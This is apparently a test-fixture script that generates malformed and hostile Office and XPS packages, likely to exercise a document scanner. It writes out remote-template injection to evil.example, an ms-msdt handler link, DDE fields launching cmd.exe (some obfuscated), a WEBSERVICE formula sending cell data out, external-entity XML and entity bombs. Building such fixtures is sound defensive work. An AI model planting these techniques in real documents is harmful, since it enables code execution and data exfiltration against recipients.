import {
  type Change,
  added,
  body,
  bookRels,
  both,
  edited,
  external,
  field,
  office,
  related,
  repacked,
  wordRels,
} from "./parts";
import { docx, xlsx, xps, write } from "./shared";

const packages: [name: string, base: Uint8Array, change: Change][] = [
  [
    "remote-template.docx",
    docx,
    related(
      "word/_rels/settings.xml.rels",
      `${office}attachedTemplate`,
      "https://evil.example/t.dotm",
      external,
    ),
  ],
  [
    "remote-template-unc.docx",
    docx,
    related(wordRels, `${office}attachedTemplate`, "\\\\evil.example\\share\\t.dotm", external),
  ],
  [
    "remote-template-escaped.docx",
    docx,
    related(wordRels, `${office}attachedTemplate`, "&#104;ttp:&#47;/evil.example/t.dotm", external),
  ],
  [
    "remote-picture.docx",
    docx,
    related(wordRels, `${office}image`, "https://evil.example/pixel.png", external),
  ],
  [
    "link-to-file.docx",
    docx,
    related(wordRels, `${office}hyperlink`, "file:///C:/Windows/System32/calc.exe", external),
  ],
  [
    "link-to-handler.docx",
    docx,
    related(wordRels, `${office}hyperlink`, "ms-msdt:/id PCWDiagnostic", external),
  ],
  [
    "remote-frame.docx",
    docx,
    related("word/_rels/webSettings.xml.rels", `${office}frame`, "\\\\evil.example\\a", external),
  ],
  [
    "dde-field.docx",
    docx,
    body(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")),
  ],
  ["dde-field-in-pieces.docx", docx, body(field("D", "<!-- x -->D<![CDATA[E]]>", "AUTO cmd"))],
  [
    "dde-field-simple.docx",
    docx,
    body('<w:p><w:fldSimple w:instr=" DDE &quot;cmd&quot; "/></w:p>'),
  ],
  ["dde-field-of-numbers.docx", docx, body(field("QUOTE 68 68 69 65 85 84 79"))],
  ["include-picture.docx", docx, body(field('INCLUDEPICTURE "https://evil.example/a.png" \\d'))],
  [
    "dde-link.xlsx",
    xlsx,
    both(
      added(
        "xl/externalLinks/externalLink1.xml",
        '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      ),
      related(bookRels, `${office}externalLink`, "externalLinks/externalLink1.xml"),
    ),
  ],
  [
    "web-service.xlsx",
    xlsx,
    edited(
      "xl/worksheets/sheet1.xml",
      /<c [^>]*>/,
      '<c r="A9"><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f></c>$&',
    ),
  ],
  [
    "connection.xlsx",
    xlsx,
    both(
      added(
        "xl/connections.xml",
        '<connections xmlns="x"><connection id="1" name="q"><webPr url="https://evil.example"/></connection></connections>',
      ),
      related(bookRels, `${office}connections`, "connections.xml"),
    ),
  ],
  [
    "web-extension.docx",
    docx,
    related(
      "_rels/.rels",
      "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
      "word/webextensions/taskpanes.xml",
    ),
  ],
  [
    "entity-bomb.docx",
    docx,
    edited(
      "word/document.xml",
      "?>",
      '?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    ),
  ],
  [
    "entity-bomb-utf-16.xlsx",
    xlsx,
    added(
      "xl/sharedStrings.xml",
      Buffer.from(
        `\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><sst/>`,
        "utf16le",
      ),
    ),
  ],
  [
    "external-entity.xps",
    xps,
    edited("FixedDocumentSequence.fdseq", /^/, '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">'),
  ],
  [
    "remote-picture.xps",
    xps,
    edited(
      "Documents/1/Pages/1.fpage",
      /<Path /,
      '<Image Source="https://evil.example/a.png"/><Path ',
    ),
  ],
  [
    "other-encoding.docx",
    docx,
    added("word/document.xml", '<?xml version="1.0" encoding="UTF-7"?><w:document/>'),
  ],
  [
    "deep-markup.docx",
    docx,
    added("word/document.xml", `${"<a>".repeat(2000)}${"</a>".repeat(2000)}`),
  ],
  [
    "huge-picture.docx",
    docx,
    added(
      "word/media/image1.png",
      Buffer.from("89504e470d0a1a0a0000000d4948445200013880000138800802000000", "hex"),
    ),
  ],
  ["no-content-types.docx", docx, (parts) => delete parts["[Content_Types].xml"]],
  [
    "two-documents.docx",
    docx,
    both(
      related("_rels/.rels", `${office}officeDocument`, "xl/workbook.xml"),
      edited(
        "[Content_Types].xml",
        "</Types>",
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
      ),
      added("xl/workbook.xml", "<workbook/>"),
    ),
  ],
  ["sheet-named-letter.docx", xlsx, () => undefined],
  ["letter-named-xps.xps", docx, () => undefined],
];
for (const [name, base, change] of packages) write(name, repacked(base, change));
